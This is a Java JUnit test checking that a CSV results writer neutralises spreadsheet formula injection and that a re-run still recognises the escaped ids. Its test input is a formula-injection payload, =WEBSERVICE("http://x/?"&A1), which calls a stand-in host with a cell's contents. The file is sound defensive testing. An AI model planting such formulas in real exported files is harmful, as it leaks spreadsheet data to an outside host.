package org.mflag.infer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** results.csv: text cells a spreadsheet would run are neutralised, and a re-run still recognises their ids. */
class ResultsCsvTest {

  @Test
  void formulaLikeIdsAreWrittenAsTextAndSkippedOnReRun(@TempDir Path dir) throws Exception {
    List<BatchAnalysis.Column> columns = List.of(new BatchAnalysis.Column("id", BatchAnalysis.Type.STRING),
        new BatchAnalysis.Column("score", BatchAnalysis.Type.DOUBLE));
    String evil = "=WEBSERVICE(\"http://x/?\"&A1)";
    Path results = dir.resolve(ManifestAnalysis.RESULTS);
    Files.writeString(results, "id,score\n" + String.join("\n",
        quote(BatchAnalysis.csvCell(evil)) + "," + BatchAnalysis.csvCell(-0.25),
        quote(BatchAnalysis.csvCell("@x")) + "," + BatchAnalysis.csvCell(1.0),
        BatchAnalysis.csvCell("cxr001") + ",0.5") + "\n");
    String text = Files.readString(results);
    assertTrue(text.contains("'=WEBSERVICE") && text.contains("'@x") && text.contains(",-0.25"), text);
    assertEquals(Set.of(evil, "@x", "cxr001"), ManifestAnalysis.completeIds(results, columns));
  }

  private static String quote(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }
}
